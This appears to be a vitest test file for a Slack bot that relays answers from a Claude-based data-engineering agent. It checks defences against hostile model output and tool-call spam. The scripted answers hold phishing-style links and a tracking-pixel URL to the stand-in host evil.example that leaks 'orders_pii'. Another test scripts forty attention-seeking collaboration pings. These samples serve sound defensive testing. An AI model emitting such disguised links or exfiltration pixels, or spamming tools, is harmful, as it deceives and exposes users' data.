import { afterEach, describe, expect, it } from 'vitest';
import { dataEngineeringAnswer, type MessageReply, textReply } from '../support/fake-anthropic.js';
import { FAKE_BOT_USER_ID, type RecordedCall } from '../support/fake-slack.js';
import { type Harness, startHarness, TEST_SECRETS } from '../support/harness.js';
import { eventEnvelope, postSigned } from '../support/slack-signing.js';

const CHANNEL = 'C0DATA001';
const ANA = 'U0ANA0001';
const BOB = 'U0BOB0001';
const ADMIN = 'U0ADMIN01';
const ROLES = ['backend', 'devops', 'security', 'qa'] as const;
const OWNERS = { backend: 'U0BACK001', devops: 'U0DEVO001', security: 'U0SECU001', qa: 'U0QUAL001' };

let eventCount = 0;
/** A human message in CHANNEL delivered as Slack would (an app_mention when it mentions the bot). */
async function say(harness: Harness, text: string, opts: { threadTs?: string; user?: string } = {}) {
  const user = opts.user ?? ANA;
  const message = harness.slack.seedMessage({
    channel: CHANNEL,
    user,
    text,
    ...(opts.threadTs ? { thread_ts: opts.threadTs } : {}),
  });
  eventCount += 1;
  const response = await postSigned(
    `${harness.app.url}/slack/events`,
    eventEnvelope(
      {
        type: text.includes(`<@${FAKE_BOT_USER_ID}>`) ? 'app_mention' : 'message',
        channel: CHANNEL,
        channel_type: 'channel',
        user,
        text,
        ts: message.ts,
        ...(opts.threadTs ? { thread_ts: opts.threadTs } : {}),
      },
      { event_id: `EvAdversarial${eventCount}` },
    ),
    { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/json' },
  );
  return { ts: message.ts, status: response.status };
}

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

/** Runs one `/data-engineer` task to the end. */
async function runTask(harness: Harness, text: string, user = ANA): Promise<void> {
  const response = await harness.command(text, { user_id: user, channel_id: CHANNEL });
  expect(response.status).toBe(200);
  await harness.app.idle();
}

/** Every piece of message text a call carried to Slack (text, markdown_text, stream chunks). */
function textsOf(call: RecordedCall): string[] {
  const chunks = Array.isArray(call.args.chunks) ? call.args.chunks : [];
  return [call.args.text, call.args.markdown_text, ...chunks.map((c: { text?: string }) => c.text)].filter(
    (t): t is string => typeof t === 'string',
  );
}

const MESSAGE_METHODS = [
  'chat.postMessage',
  'chat.update',
  'chat.startStream',
  'chat.appendStream',
  'chat.stopStream',
];

describe('10.4 no hidden link targets, no previews', () => {
  const HOSTILE =
    'Your warehouse session expired. [Re-authenticate](https://evil.example/login?next=sso) first, ' +
    'or <https://evil.example/reset|click here to reset>. Status: ![ok](https://evil.example/pixel.png?d=orders_pii)\n\n' +
    `${dataEngineeringAnswer('Orders mart')}\n\nDocs: [dbt docs][1]\n\n[1]: https://evil.example/ref\n`;

  function answerTexts(harness: Harness): string[] {
    return MESSAGE_METHODS.flatMap((m) => harness.slack.callsTo(m))
      .filter(
        (c) => c.args.thread_ts !== undefined || c.method !== 'chat.postMessage' || c.args.markdown_text,
      )
      .flatMap(textsOf);
  }

  function expectNoHiddenTargets(harness: Harness): void {
    const finals = harness.slack.messages.filter((m) => m.markdown_text?.includes('evil.example'));
    expect(finals.length).toBeGreaterThan(0);
    const shown = finals.map((m) => m.markdown_text ?? '').join('\n');
    // Every target is visible next to its label, and nothing can still render as a link or an image.
    expect(shown).toContain('Re-authenticate (https://evil.example/login?next=sso)');
    expect(shown).toContain('click here to reset (https://evil.example/reset)');
    expect(shown).toContain('`https://evil.example/pixel.png?d=orders_pii`');
    expect(shown).not.toMatch(/\]\(|\]:|\|click|!\[/);
    for (const text of answerTexts(harness)) expect(text).not.toMatch(/\]\(|\]:|\|click|!\[/);
  }

  it('a streamed answer shows every link target and no image', async () => {
    h = await startHarness();
    h.anthropic.script(textReply(HOSTILE, { tokensPerSecond: 4000 }));
    await runTask(h, 'design the orders mart');
    expect(h.slack.callsTo('chat.startStream').length).toBeGreaterThan(0);
    expectNoHiddenTargets(h);
  });

  it('a posted answer (streaming refused) has unfurls off on every post, and visible targets', async () => {
    h = await startHarness();
    h.slack.refuseStreaming();
    h.anthropic.script(textReply(HOSTILE, { tokensPerSecond: 4000 }));
    await runTask(h, 'design the orders mart');
    const posts = h.slack.callsTo('chat.postMessage');
    expect(posts.filter((p) => p.args.markdown_text).length).toBeGreaterThan(0);
    for (const post of posts) {
      expect(String(post.args.unfurl_links), JSON.stringify(post.args).slice(0, 200)).toBe('false');
      expect(String(post.args.unfurl_media)).toBe('false');
    }
    expectNoHiddenTargets(h);
  });

  it('a short answer shows the target beside its label', async () => {
    h = await startHarness();
    h.anthropic.script(textReply('See [the runbook](https://evil.example/runbook).'));
    await runTask(h, 'where is the runbook');
    const answer = h.slack.messages.find((m) => m.markdown_text?.includes('runbook'));
    expect(answer?.markdown_text).toBe('See the runbook (https://evil.example/runbook).');
  });
});

describe('10.3 the agent cannot spam pings', () => {
  /** A model round that calls request_collaboration `calls` times, each with a new topic. */
  function spamRound(first: number, calls: number): MessageReply {
    return {
      kind: 'message',
      content: [
        { type: 'text', text: `Part ${first}.\n` },
        ...Array.from({ length: calls }, (_, i) => ({
          type: 'tool_use' as const,
          name: 'request_collaboration',
          input: {
            role: ROLES[(first + i) % ROLES.length],
            topic: `Urgent topic number ${first + i}`,
            request: `Please review item ${first + i} of the design today, it is very important.`,
            reason: 'The model wants attention.',
          },
        })),
      ],
    };
  }

  it('40 calls with distinct topics ping each role at most once (4 pings), and the model is told why', async () => {
    h = await startHarness({ env: { BOT_ADMINS: ADMIN } });
    for (const id of [ADMIN, ANA, ...Object.values(OWNERS)]) h.slack.addUser({ id });
    for (const role of ROLES) {
      const response = await h.command(`owners set ${role} <@${OWNERS[role]}>`, { user_id: ADMIN });
      expect(response.status).toBe(200);
    }
    // Four tool rounds of ten calls each (the most rounds an answer may take), then the answer.
    h.anthropic.script(
      spamRound(0, 10),
      spamRound(10, 10),
      spamRound(20, 10),
      spamRound(30, 10),
      textReply('Done.'),
    );
    const { ts: threadTs } = await say(h, `<@${FAKE_BOT_USER_ID}> design the orders mart`);
    await h.app.idle();

    const pings = h.slack
      .threadMessages(CHANNEL, threadTs)
      .filter((m) => /<@U0(BACK|DEVO|SECU|QUAL)001>/.test(m.text ?? ''));
    expect(pings.length).toBeLessThanOrEqual(4);
    expect(new Set(pings.map((p) => p.text?.match(/<@(U\w+)>/)?.[1]))).toEqual(
      new Set(Object.values(OWNERS)),
    );
    expect(h.query('select id from collaboration_requests')).toHaveLength(4);
    // Every refused call got a tool result telling the model the role was already asked.
    const results = h.anthropic.requests
      .filter((r) => r.path === '/v1/messages')
      .flatMap((r) => JSON.stringify(r.body.messages.at(-1)).match(/already asked/g) ?? []);
    expect(results.length).toBe(36);

    // A follow-up in the same task with forty more calls adds nothing either.
    h.anthropic.script(spamRound(40, 20), spamRound(60, 20), textReply('Still done.'));
    await say(h, 'and the refunds table?', { threadTs });
    await h.app.idle();
    const after = h.slack
      .threadMessages(CHANNEL, threadTs)
      .filter((m) => /<@U0(BACK|DEVO|SECU|QUAL)001>/.test(m.text ?? ''));
    expect(after.length).toBeLessThanOrEqual(4);
    expect(h.query('select id from collaboration_requests')).toHaveLength(4);
  });
});
